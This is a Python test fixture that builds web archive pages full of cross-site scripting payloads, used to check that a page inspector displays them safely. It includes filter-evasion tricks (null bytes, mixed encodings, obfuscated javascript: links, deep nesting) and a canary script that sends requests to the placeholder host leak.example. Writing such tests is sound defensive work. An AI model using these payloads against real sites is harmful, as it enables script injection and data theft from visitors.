"""Web pages that attack whoever shows them, to test that the page inspector shows them without harm.

Each attack tries to do one of: run a script (which sets a canary everywhere it can), send a request to a host that
nobody may ask, send the window elsewhere, or break out of what is put around it.
"""

from __future__ import annotations

import io
from pathlib import Path

from gristmill.archive import WarcWriter

LEAK = "http://leak.example"
"""Where attacks send what they find; no request may go there."""
HIT = (
    "try{top.document.title='HIT'}catch(e){};try{document.title='HIT'}catch(e){};window.HIT=1;"
    "try{localStorage.setItem('HIT','1')}catch(e){};try{parent.postMessage('HIT','*')}catch(e){};"
    f"try{{fetch('{LEAK}/fetch')}}catch(e){{}};try{{top.location='{LEAK}/top'}}catch(e){{}};"
    f"new Image().src='{LEAK}/image'"
).replace('"', "'")
_SVG = "http://www.w3.org/2000/svg"
_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="


def _from_file() -> dict[str, str | bytes]:
    """Read the attacks that are in a file: a line with the name of each, and below it the attack."""
    text = (Path(__file__).parent / "data" / "attacks.txt").read_text("utf-8")
    for mark, value in {"@HIT@": HIT, "@LEAK@": LEAK, "@SVG@": _SVG, "@BASE64@": _B64}.items():
        text = text.replace(mark, value)
    parts = (part.partition("\n") for part in text.split("%% ")[1:])
    return {name: attack.removesuffix("\n") for name, _, attack in parts}


_HIT = HIT.encode()
ATTACKS: dict[str, str | bytes] = _from_file() | {
    "script in capitals": f"<ScRiPt\t>{HIT}</sCrIpT\n>",
    "handler behind a null": f'<img src=x on\0error="{HIT}" onerror\0="{HIT}">',
    "javascript address": f'<a href="java\tscript:{HIT}">tab</a><a href=" \x01javascript:{HIT}">control</a>',
    "long attribute": f'<p class="{"a " * 40_000}" data-x="{"x" * 300_000}" onclick="{HIT}">text</p>',
    "long text for a picture": f'<p>text<img alt="{"b" * 70_000}" src=x onerror="{HIT}"></p>',
    "many attributes": f"<p {' '.join(f'a{number}=1' for number in range(20_000))} onclick='{HIT}'>text</p>",
    "deep": "<div>" * 5_000 + f"<script>{HIT}</script>text" + "</div>" * 5_000,
    "misnested": f"<b><table><a><tr><td></a><script>{HIT}</script>text</b></table><a><p></a><a onclick='{HIT}'>x" * 50,
    "nulls": f"<\0script>{HIT}</\0script><scr\0ipt>{HIT}</script><img src=x o\0nerror='{HIT}'>text\0text",
    "utf-16": f"<p>text <script>{HIT}</script><img src=x onerror='{HIT}'>".encode("utf-16"),
    "iso-2022-jp": b'<meta charset=iso-2022-jp><p>text \x1b$B<img alt="\x1b(B" src=x onerror="' + _HIT + b'">\x1b(J\\',
    "half of a character": b'<meta charset=gbk><p title="\x81" onclick="' + _HIT + b'">text \xe0\x80\x80\xed\xa0\x80',
    "half of a name": b"<p>text<img src=x\xc2 onerror='" + _HIT + b"'><a\xe2\x80 href='javascript:" + _HIT + b"'>",
    "wide brackets": f"<p>text \uff1cscript\uff1e{HIT}\uff1c/script\uff1e <p title='\u2028' onclick='{HIT}'>text",
    "separators": f'<svg/onload="{HIT}"><img\fsrc=x\fonerror="{HIT}"><img\x0bsrc=x onerror="{HIT}">',
    "separators that are none": f'<a\xa0href="javascript:{HIT}">x</a><img\u2003src=x\u2003onerror="{HIT}">',
}
"""Attacks by name."""
_KEEPS = "A mill by the river grinds grain into flour, and the miller sells it to the bakers of the town. "
HOSTILE_TITLE = f"</title></h1><script>{HIT}</script>\"'><img src=x onerror={HIT}>"
HOSTILE_URL = (
    "http://evil.example/\"'><script>top.HIT=1</script>?a=<img/src=x/onerror=top.HIT=1>&javascript:alert(1)#{{7*7}}"
)


def attack_page(attack: str | bytes) -> bytes:
    """Put an attack into a page that is kept, as it has some text, before and behind the attack."""
    body = attack if isinstance(attack, bytes) else attack.encode("utf-8", "surrogatepass")
    if body.startswith((b"\xff\xfe", b"\xfe\xff")):
        return body
    text = f"<p>{_KEEPS * 3}</p>".encode()
    return b"<!DOCTYPE html><html><title>Mill</title>" + text + body + text


def attack_archive() -> bytes:
    """Make an archive of a page for each attack, one of all of them, and one whose title and address attack."""
    stream = io.BytesIO()
    writer = WarcWriter(stream)
    pages = {f"http://{number}.example/": attack_page(attack) for number, attack in enumerate(ATTACKS.values())}
    together = "\n".join(attack for attack in ATTACKS.values() if isinstance(attack, str) and len(attack) < 5_000)
    pages["http://all.example/"] = attack_page(together)
    pages[HOSTILE_URL] = (
        f"<title>{HOSTILE_TITLE.replace('</title>', '&lt;/title&gt;')}</title>"
        f"<meta name=author content='{HOSTILE_TITLE.replace(chr(39), '')}'><p>{_KEEPS * 4}".encode()
    )
    for url, body in pages.items():
        writer.write_response(url, "2024-05-01T00:00:00Z", 200, {"Content-Type": "text/html"}, body)
    return stream.getvalue()
